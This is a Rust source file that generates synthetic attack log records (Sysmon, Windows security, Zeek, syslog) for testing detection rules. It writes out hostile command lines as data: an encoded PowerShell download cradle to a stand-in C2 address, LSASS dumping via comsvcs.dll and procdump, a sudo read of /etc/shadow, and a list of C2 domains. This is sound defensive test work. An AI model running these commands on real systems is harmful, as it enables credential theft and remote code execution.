//! Attack scenarios: short sequences of records, each ending in (or
//! containing) what one rule of `deploy/rules` detects. Every record of an
//! attack carries the attack's marker; the records that raise an alert
//! name the rule, so the manifest can say which alert, with which time,
//! each attack must give.

use super::SourceKind;
use super::benign::{
    self, AUTH, AUTHPRIV, CMD, EXPLORER, INFO, NOTICE, POWERSHELL, SYSTEM, WINWORD, ephemeral,
    logon_id, process, qualified,
};
use super::records::{self, Logon, Proc};
use super::rng::Rng;
use super::world::{Host, World};

/// The rules of `deploy/rules` the scenarios raise, by id.
pub(crate) const RULE_WHOAMI: &str = "23e415d1-fd68-4b1a-90fb-804d09a2a652";
pub(crate) const RULE_ENCODED_POWERSHELL: &str = "4652f05d-c600-460b-a30b-77ccfebe317e";
pub(crate) const RULE_LSASS_DUMP: &str = "612159ea-617c-4e3c-b4b7-102cc6dfab59";
pub(crate) const RULE_PSEXEC: &str = "f96b018f-7fa7-4d1b-8cc2-0b9e2bd601c1";
pub(crate) const RULE_BRUTE_FORCE: &str = "cdcce5c6-1fa7-4603-9280-7ead117a086b";
pub(crate) const RULE_BRUTE_FORCE_SUCCESS: &str = "68aeadb2-f942-461f-87a8-65e50a5b6cc1";
pub(crate) const RULE_BAD_DNS: &str = "7729d157-d7b0-45c4-85e2-35b49cdf5dab";
pub(crate) const RULE_SHADOW: &str = "e4770d82-b4b0-4c45-8d56-49df6511df7f";

/// Every alerting rule of the pack, with its title (the two detections
/// the brute-force correlations read raise no alert of their own).
pub(crate) const RULES: &[(&str, &str)] = &[
    (RULE_WHOAMI, "Whoami Listing All Groups and Privileges"),
    (
        RULE_ENCODED_POWERSHELL,
        "PowerShell Started with an Encoded Command",
    ),
    (RULE_LSASS_DUMP, "LSASS Memory Dumped from the Command Line"),
    (RULE_PSEXEC, "PsExec Service Installed"),
    (
        RULE_BRUTE_FORCE,
        "Brute Force of Network Logons from One External Address",
    ),
    (
        RULE_BRUTE_FORCE_SUCCESS,
        "Successful Logon after a Brute Force from the Same Address",
    ),
    (
        RULE_BAD_DNS,
        "DNS Query for a Known Command-and-Control Domain",
    ),
    (RULE_SHADOW, "Shadow Password File Read through sudo"),
];

/// Failed logons of one brute force, and how many the correlation needs
/// (`condition: gte: 10` in `security_brute_force_external.yml`): 15 give
/// one alert, the other 5 are left over.
pub(crate) const BRUTE_FORCE_FAILURES: usize = 15;
pub(crate) const BRUTE_FORCE_THRESHOLD: usize = 10;

/// Domains of the DNS rule's block list.
const BAD_DOMAINS: &[&str] = &[
    "c2-relay.example.net",
    "update-check.example.org",
    "cdn-telemetry.example.com",
];

/// An attack scenario.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, clap::ValueEnum, serde::Serialize)]
#[serde(rename_all = "snake_case")]
#[value(rename_all = "snake_case")]
pub(crate) enum Scenario {
    /// `whoami /all` from a shell on a workstation (discovery).
    WhoamiDiscovery,
    /// A macro document starting PowerShell with an encoded download cradle.
    EncodedPowershell,
    /// LSASS dumped with rundll32 comsvcs.dll MiniDump or ProcDump.
    LsassDump,
    /// PsExec from an admin workstation to a server: logon, PSEXESVC
    /// service, a shell under it.
    PsexecService,
    /// 15 failed network logons from one external address on the remote
    /// desktop gateway, then a successful one.
    BruteForce,
    /// A workstation resolving a command-and-control domain, then
    /// connecting to it (Zeek).
    DnsC2Domain,
    /// SSH to a Linux server, then `sudo cat /etc/shadow` (syslog).
    ShadowRead,
}

impl Scenario {
    pub(crate) const ALL: [Scenario; 7] = [
        Scenario::WhoamiDiscovery,
        Scenario::EncodedPowershell,
        Scenario::LsassDump,
        Scenario::PsexecService,
        Scenario::BruteForce,
        Scenario::DnsC2Domain,
        Scenario::ShadowRead,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Scenario::WhoamiDiscovery => "whoami_discovery",
            Scenario::EncodedPowershell => "encoded_powershell",
            Scenario::LsassDump => "lsass_dump",
            Scenario::PsexecService => "psexec_service",
            Scenario::BruteForce => "brute_force",
            Scenario::DnsC2Domain => "dns_c2_domain",
            Scenario::ShadowRead => "shadow_read",
        }
    }

    /// The source the scenario's records come from.
    pub(crate) fn source(self) -> SourceKind {
        match self {
            Scenario::DnsC2Domain => SourceKind::Zeek,
            Scenario::ShadowRead => SourceKind::Syslog,
            _ => SourceKind::Windows,
        }
    }

    /// The alerts one run of the scenario gives: rule id and count.
    pub(crate) fn expected(self) -> Vec<(&'static str, usize)> {
        match self {
            Scenario::WhoamiDiscovery => vec![(RULE_WHOAMI, 1)],
            Scenario::EncodedPowershell => vec![(RULE_ENCODED_POWERSHELL, 1)],
            Scenario::LsassDump => vec![(RULE_LSASS_DUMP, 1)],
            Scenario::PsexecService => vec![(RULE_PSEXEC, 1)],
            Scenario::BruteForce => vec![
                (
                    RULE_BRUTE_FORCE,
                    BRUTE_FORCE_FAILURES / BRUTE_FORCE_THRESHOLD,
                ),
                (RULE_BRUTE_FORCE_SUCCESS, 1),
            ],
            Scenario::DnsC2Domain => vec![(RULE_BAD_DNS, 1)],
            Scenario::ShadowRead => vec![(RULE_SHADOW, 1)],
        }
    }

    /// How many records the scenario has (fixed per scenario, so a run
    /// with `--count` can tell whether an attack still fits).
    pub(crate) fn len(self) -> usize {
        match self {
            Scenario::WhoamiDiscovery | Scenario::PsexecService => 3,
            Scenario::EncodedPowershell | Scenario::LsassDump => 2,
            Scenario::BruteForce => BRUTE_FORCE_FAILURES + 1,
            Scenario::DnsC2Domain | Scenario::ShadowRead => 2,
        }
    }
}

/// Renders a record once its time is known.
pub(crate) type Render = Box<dyn FnOnce(i64) -> String + Send>;

/// One record of an attack, not yet timed.
pub(crate) struct Planned {
    pub(crate) kind: SourceKind,
    pub(crate) render: Render,
    /// The rules expected to raise an alert whose time is this record's.
    pub(crate) alerts: Vec<&'static str>,
}

/// What a planned attack needs besides its world.
pub(crate) struct Context<'a> {
    pub(crate) rng: &'a mut Rng,
    pub(crate) world: &'a World,
    /// The tenant's Windows record id counter.
    pub(crate) record_id: &'a mut u64,
    /// The attack's marker.
    pub(crate) marker: &'a str,
    /// A number unique to this attack within the run, offset by the seed
    /// (external addresses: two runs into the same tenants with different
    /// seeds must not share a brute force's address, or their failures
    /// would count together).
    pub(crate) instance: u64,
}

impl Context<'_> {
    fn rid(&mut self) -> u64 {
        *self.record_id += 1;
        *self.record_id
    }

    fn proc_create(
        &mut self,
        host: &Host,
        child: &Proc,
        parent: &Proc,
        alerts: Vec<&'static str>,
    ) -> Planned {
        let (host, child, parent) = (host.clone(), child.clone(), parent.clone());
        let (rid, lid, marker) = (self.rid(), logon_id(self.rng), self.marker.to_string());
        Planned {
            kind: SourceKind::Windows,
            alerts,
            render: Box::new(move |t| {
                records::sysmon_process(&host, rid, &child, &parent, &lid, t)
                    .render(t, Some(&marker))
            }),
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn logon(
        &mut self,
        host: &Host,
        event_id: u32,
        user: &str,
        sid: &str,
        ip: &str,
        workstation: &str,
        alerts: Vec<&'static str>,
    ) -> Planned {
        let (host, user, sid, ip, ws) = (
            host.clone(),
            user.to_string(),
            sid.to_string(),
            ip.to_string(),
            workstation.to_string(),
        );
        let domain = self.world.netbios.clone();
        let (rid, lid, port, marker) = (
            self.rid(),
            logon_id(self.rng),
            ephemeral(self.rng),
            self.marker.to_string(),
        );
        Planned {
            kind: SourceKind::Windows,
            alerts,
            render: Box::new(move |t| {
                let logon = Logon {
                    user: &user,
                    user_sid: &sid,
                    domain: &domain,
                    logon_type: 3,
                    ip: &ip,
                    port,
                    workstation: &ws,
                    package: "NTLM",
                    logon_id: &lid,
                };
                records::security(&host, event_id, rid, logon.data(event_id, &host))
                    .render(t, Some(&marker))
            }),
        }
    }

    fn zeek(
        &mut self,
        path: &'static str,
        fields: serde_json::Value,
        alerts: Vec<&'static str>,
    ) -> Planned {
        let (uid, marker) = (records::zeek_uid(self.rng), self.marker.to_string());
        Planned {
            kind: SourceKind::Zeek,
            alerts,
            render: Box::new(move |t| records::zeek(path, t, &uid, fields, Some(&marker))),
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn syslog(
        &mut self,
        facility: u8,
        severity: u8,
        host: &str,
        app: &'static str,
        message: String,
        alerts: Vec<&'static str>,
    ) -> Planned {
        let (host, pid, marker) = (
            host.to_string(),
            self.rng.range(1_000, 60_000),
            self.marker.to_string(),
        );
        Planned {
            kind: SourceKind::Syslog,
            alerts,
            render: Box::new(move |t| {
                records::syslog(
                    facility,
                    severity,
                    t,
                    &host,
                    app,
                    pid,
                    &message,
                    Some(&marker),
                )
            }),
        }
    }

    /// An address on the internet unique to this attack (45.0.0.0/8 holds
    /// 16 million; none of the benign records use it).
    fn attacker_ip(&self) -> String {
        let n = self.instance % (1 << 24);
        format!("45.{}.{}.{}", n >> 16, (n >> 8) & 255, n & 255)
    }

    /// A command-and-control server's address (TEST-NET-3).
    fn c2_ip(&mut self) -> String {
        format!("203.0.113.{}", 1 + self.rng.below(254))
    }
}

/// The records of one run of `scenario`.
pub(crate) fn plan(scenario: Scenario, cx: &mut Context<'_>) -> Vec<Planned> {
    let world = cx.world;
    let planned = match scenario {
        Scenario::WhoamiDiscovery => {
            let ws = cx.rng.pick(&world.workstations).clone();
            let user = qualified(world, &world.owner(&ws).name);
            let explorer = process(cx.rng, EXPLORER, EXPLORER.into(), user.clone());
            let shell = process(cx.rng, CMD, format!("\"{CMD}\" "), user.clone());
            let whoami = process(
                cx.rng,
                "C:\\Windows\\System32\\whoami.exe",
                "whoami  /all".into(),
                user.clone(),
            );
            let net = process(
                cx.rng,
                "C:\\Windows\\System32\\net.exe",
                "net  group \"Domain Admins\" /domain".into(),
                user,
            );
            vec![
                cx.proc_create(&ws, &shell, &explorer, vec![]),
                cx.proc_create(&ws, &whoami, &shell, vec![RULE_WHOAMI]),
                cx.proc_create(&ws, &net, &shell, vec![]),
            ]
        }
        Scenario::EncodedPowershell => {
            let ws = cx.rng.pick(&world.workstations).clone();
            let user = qualified(world, &world.owner(&ws).name);
            let home = format!("C:\\Users\\{}", world.owner(&ws).name);
            let c2 = cx.c2_ip();
            let path = cx.rng.hex(8);
            let script =
                format!("IEX (New-Object Net.WebClient).DownloadString('https://{c2}/{path}')");
            let encoded = records::base64(&records::utf16le(&script));
            let invoice = cx.rng.range(10_000, 99_999);
            let word = process(
                cx.rng,
                WINWORD,
                format!("\"{WINWORD}\" /n \"{home}\\Downloads\\Invoice-{invoice}.docm\""),
                user.clone(),
            );
            let ps = process(
                cx.rng,
                POWERSHELL,
                format!("powershell.exe -NoP -NonI -W Hidden -Enc {encoded}"),
                user,
            );
            let conn = {
                let (host, ps, rid, port, marker) = (
                    ws.clone(),
                    ps.clone(),
                    cx.rid(),
                    ephemeral(cx.rng),
                    cx.marker.to_string(),
                );
                Planned {
                    kind: SourceKind::Windows,
                    alerts: vec![],
                    render: Box::new(move |t| {
                        records::sysmon_network(&host, rid, &ps, port, &c2, "", 443, t)
                            .render(t, Some(&marker))
                    }),
                }
            };
            vec![
                cx.proc_create(&ws, &ps, &word, vec![RULE_ENCODED_POWERSHELL]),
                conn,
            ]
        }
        Scenario::LsassDump => {
            let host = if cx.rng.chance(500) {
                cx.rng.pick(&world.servers).clone()
            } else {
                cx.rng.pick(&world.workstations).clone()
            };
            let admin = &world.users[*cx.rng.pick(&world.admins)];
            let user = qualified(world, &admin.name);
            let lsass_pid = cx.rng.range(600, 900) & !3;
            let dump = cx.rng.hex(6);
            let (child, parent) = if cx.rng.chance(500) {
                let ps = process(
                    cx.rng,
                    POWERSHELL,
                    format!("\"{POWERSHELL}\" "),
                    user.clone(),
                );
                let rundll = process(
                    cx.rng,
                    "C:\\Windows\\System32\\rundll32.exe",
                    format!(
                        "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} C:\\Windows\\Temp\\{dump}.bin full"
                    ),
                    user,
                );
                (rundll, ps)
            } else {
                let shell = process(cx.rng, CMD, format!("\"{CMD}\" "), user.clone());
                let procdump = process(
                    cx.rng,
                    "C:\\Users\\Public\\procdump64.exe",
                    format!(
                        "procdump64.exe  -accepteula -ma lsass.exe C:\\Users\\Public\\{dump}.dmp"
                    ),
                    user,
                );
                (procdump, shell)
            };
            let mut child = child;
            child.integrity = "High";
            let explorer = process(cx.rng, EXPLORER, EXPLORER.into(), parent.user.clone());
            vec![
                cx.proc_create(&host, &parent, &explorer, vec![]),
                cx.proc_create(&host, &child, &parent, vec![RULE_LSASS_DUMP]),
            ]
        }
        Scenario::PsexecService => {
            let admin_index = *cx.rng.pick(&world.admins);
            let admin = world.users[admin_index].clone();
            let from = world.workstations[admin_index % world.workstations.len()].clone();
            let target = cx.rng.pick(&world.servers).clone();
            let login = cx.logon(
                &target,
                4624,
                &admin.name,
                &admin.sid,
                &from.ip,
                &from.name,
                vec![],
            );
            let service = {
                let (host, rid, marker) = (target.clone(), cx.rid(), cx.marker.to_string());
                Planned {
                    kind: SourceKind::Windows,
                    alerts: vec![RULE_PSEXEC],
                    render: Box::new(move |t| {
                        records::service_installed(
                            &host,
                            rid,
                            "PSEXESVC",
                            "%SystemRoot%\\PSEXESVC.exe",
                            "LocalSystem",
                        )
                        .render(t, Some(&marker))
                    }),
                }
            };
            let psexesvc = process(
                cx.rng,
                "C:\\Windows\\PSEXESVC.exe",
                "C:\\Windows\\PSEXESVC.exe".into(),
                SYSTEM.into(),
            );
            let shell = process(
                cx.rng,
                CMD,
                "\"cmd.exe\" /c \"ipconfig /all && net localgroup administrators\"".into(),
                qualified(world, &admin.name),
            );
            vec![
                login,
                service,
                cx.proc_create(&target, &shell, &psexesvc, vec![]),
            ]
        }
        Scenario::BruteForce => {
            let target = world.server("RDS01").clone();
            let ip = cx.attacker_ip();
            let workstation =
                (*cx.rng.pick(&["kali", "WIN-8JQ2A1LMV0", "DESKTOP-6F3K2P1"])).to_string();
            let mut out = Vec::new();
            for i in 0..BRUTE_FORCE_FAILURES {
                let user = if i % 3 == 2 {
                    world.users[cx.rng.index(world.users.len())].name.clone()
                } else {
                    (*cx.rng
                        .pick(&["administrator", "admin", "scanner", "backup", "test"]))
                    .to_string()
                };
                // The correlation fires on its 10th, 20th, … match.
                let alerts = if (i + 1) % BRUTE_FORCE_THRESHOLD == 0 {
                    vec![RULE_BRUTE_FORCE]
                } else {
                    vec![]
                };
                out.push(cx.logon(&target, 4625, &user, "S-1-0-0", &ip, &workstation, alerts));
            }
            let victim = world.users[cx.rng.index(world.users.len())].clone();
            out.push(cx.logon(
                &target,
                4624,
                &victim.name,
                &victim.sid,
                &ip,
                &workstation,
                vec![RULE_BRUTE_FORCE_SUCCESS],
            ));
            out
        }
        Scenario::DnsC2Domain => {
            let ws = cx.rng.pick(&world.workstations).clone();
            let dc = cx.rng.pick(&world.dcs).clone();
            let c2 = cx.c2_ip();
            let name = format!("{}.{}", cx.rng.hex(10), cx.rng.pick(BAD_DOMAINS));
            let dns = benign::dns_fields(cx.rng, &ws.ip, &dc.ip, &name, &[&c2], "NOERROR");
            let sport = ephemeral(cx.rng);
            let (out, inb) = (cx.rng.range(300, 3_000), cx.rng.range(200, 20_000));
            let conn =
                benign::conn_fields(&ws.ip, sport, &c2, 443, "tcp", "ssl", "SF", out, inb, 0.8);
            vec![
                cx.zeek("dns", dns, vec![RULE_BAD_DNS]),
                cx.zeek("conn", conn, vec![]),
            ]
        }
        Scenario::ShadowRead => {
            let host = cx.rng.pick(&world.linux).clone();
            let user = (*cx.rng.pick(&world.linux_users)).to_string();
            let from = cx.rng.pick(&world.workstations).clone();
            let port = ephemeral(cx.rng);
            let tty = cx.rng.below(4);
            vec![
                cx.syslog(
                    AUTH,
                    INFO,
                    &host.name,
                    "sshd",
                    format!("Accepted password for {user} from {} port {port} ssh2", from.ip),
                    vec![],
                ),
                cx.syslog(
                    AUTHPRIV,
                    NOTICE,
                    &host.name,
                    "sudo",
                    format!("{user} : TTY=pts/{tty} ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"),
                    vec![RULE_SHADOW],
                ),
            ]
        }
    };
    debug_assert_eq!(planned.len(), scenario.len(), "{}", scenario.name());
    planned
}
